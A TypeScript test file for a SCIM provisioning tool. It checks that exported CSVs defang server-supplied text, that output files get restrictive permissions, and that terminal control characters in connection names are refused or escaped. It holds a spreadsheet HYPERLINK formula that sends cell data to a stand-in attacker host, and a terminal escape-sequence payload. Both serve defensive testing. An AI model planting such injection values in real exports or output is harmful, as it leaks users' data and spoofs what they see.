/**
 * Issue 17 item 5: output that leaves the app is safe. Through the router with the real engine
 * and its Local sandbox: a server account whose userName is a spreadsheet formula lands in
 * plan.orphans.csv defanged, like in an export; plans, snapshots and run reports are created
 * 0600 in 0700 folders; connection names with control characters are refused, and the CLI prints
 * names from an older profile file on one line, with escapes shown.
 */
import { mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CliIo } from '../../cli/io';
import { runCli } from '../../cli/main';
import { createRouter, type Router } from '../../engine/api/router';
import { createEngine, type Engine } from '../../engine/create-engine';
import { createMemorySecretStore } from '../../engine/secrets/memory-secret-store';
import type { Channel } from '../../shared/ipc/channels';
import type { ResponseOf } from '../../shared/ipc/contract';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const CSV = 'userName,givenName,familyName\nada@porter.example,Ada,Lovelace\n';

let dir: string;
let engine: Engine;
let router: Router;

async function call<C extends Channel>(channel: C, request: unknown): Promise<ResponseOf<C>> {
  const result = await router.dispatch(channel, request);
  if (!result.ok) throw new Error(`${channel}: ${JSON.stringify(result.error)}`);
  return result.value as ResponseOf<C>;
}

const mode = async (path: string): Promise<string> => ((await stat(path)).mode & 0o777).toString(8);

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'scim-porter-output-'));
  engine = await createEngine({
    dataDir: join(dir, 'data'),
    secrets: createMemorySecretStore(),
    sandbox: { enabled: true, seed: 0 },
  });
  router = createRouter(engine, { validateResponses: true });
  await writeFile(join(dir, 'hr.csv'), CSV);
  const live = engine.sandbox();
  if (!live) throw new Error('no sandbox');
  const created = await fetch(`${live.url}/Users`, {
    method: 'POST',
    headers: { authorization: `Bearer ${live.token}`, 'content-type': 'application/scim+json' },
    body: JSON.stringify({
      schemas: ['urn:ietf:params:scim:schemas:core:2.0:User'],
      userName: FORMULA,
      active: true,
    }),
  });
  expect(created.status).toBe(201);
}, 30_000);

afterAll(async () => {
  await engine.dispose();
  await rm(dir, { recursive: true, force: true });
});

describe('output that leaves the app', () => {
  it('plan.orphans.csv defangs server text; plans, snapshots and reports are 0600 in 0700 folders', async () => {
    if (process.platform === 'win32') return;
    const csvPath = join(dir, 'hr.csv');
    const inspection = await call('import:inspect', { path: csvPath });
    const plan = await engine.jobs.settled(
      (
        await call('plan:start', {
          connectionId: 'local-sandbox',
          csvPath,
          mapping: inspection.suggestion.spec,
          mode: 'deactivate-unlisted',
        })
      ).jobId,
    );
    expect(plan?.status, JSON.stringify(plan?.error)).toBe('done');
    const planId = plan?.outcome?.planId ?? '';
    const plansDir = join(dir, 'data', 'plans');
    const files = await readdir(plansDir);
    const orphans = files.find((f) => f.endsWith('.orphans.csv'));
    expect(orphans).toBeDefined();
    const report = await readFile(join(plansDir, orphans ?? ''), 'utf8');
    // The formula is there, defanged with a leading ' as in exports (and quoted for its commas).
    expect(report).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
    expect(report).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const info = await call('plan:info', { planId });
    const overrideSafeguards = info.summary?.safeguards.overrideCount ?? 0;
    const run = await engine.jobs.settled(
      (await call('apply:start', { planId, connectionId: 'local-sandbox', overrideSafeguards }))
        .jobId,
    );
    expect(run?.status, JSON.stringify(run?.error)).toBe('done');

    expect(await mode(plansDir)).toBe('700');
    for (const f of files) expect(`${f} ${await mode(join(plansDir, f))}`).toBe(`${f} 600`);
    const snapshots = join(dir, 'data', 'snapshots');
    expect(await mode(snapshots)).toBe('700');
    const snaps = await readdir(snapshots);
    expect(snaps.length).toBeGreaterThan(0);
    for (const f of snaps) expect(`${f} ${await mode(join(snapshots, f))}`).toBe(`${f} 600`);
    const runs = join(dir, 'data', 'runs');
    expect(await mode(runs)).toBe('700');
    const runDir = join(runs, run?.outcome?.runId ?? '');
    expect(await mode(runDir)).toBe('700');
    expect(await mode(join(runDir, 'report.csv'))).toBe('600');
  }, 60_000);

  it('refuses control characters in a connection name; the CLI prints an old one on one line', async () => {
    const refused = await router.dispatch('connections:save', {
      settings: {
        name: 'Okta\x1b[2J\nSaved',
        baseUrl: 'https://okta.example/scim/v2',
        auth: { kind: 'bearer' },
      },
      secret: 'tok-1234',
    });
    expect(refused.ok).toBe(false);
    if (!refused.ok)
      expect(refused.error).toMatchObject({ code: 'invalid_request', fields: ['name'] });

    const legacy = join(dir, 'legacy');
    await mkdir(legacy);
    const profile = {
      id: 'p1',
      name: 'Okta\x1b]8;;http://evil.example\x07\nSaved connection "prod"',
      kind: 'remote',
      baseUrl: 'https://okta.example/scim/v2',
      auth: { kind: 'bearer' },
      tls: { verify: true },
      timeoutMs: 30000,
      maxConcurrency: 8,
      bulk: 'auto',
      createdAt: '',
      updatedAt: '',
    };
    await writeFile(
      join(legacy, 'connections.json'),
      JSON.stringify({ version: 1, profiles: [profile] }),
    );
    const out: string[] = [];
    const io: CliIo = {
      out: (l) => out.push(l),
      err: (l) => out.push(l),
      progress: () => undefined,
      env: {},
      cwd: dir,
    };
    expect(await runCli(['--data-dir', legacy, 'connections', 'list'], io)).toBe(0);
    expect(out).toHaveLength(2);
    expect(out.join('\n').includes('\u0007') || out.join('\n').includes('\u001b')).toBe(false);
    expect(out[1]).toContain(
      'Okta\\u001b]8;;http://evil.example\\u0007\\u000aSaved connection "prod"',
    );
  });
});
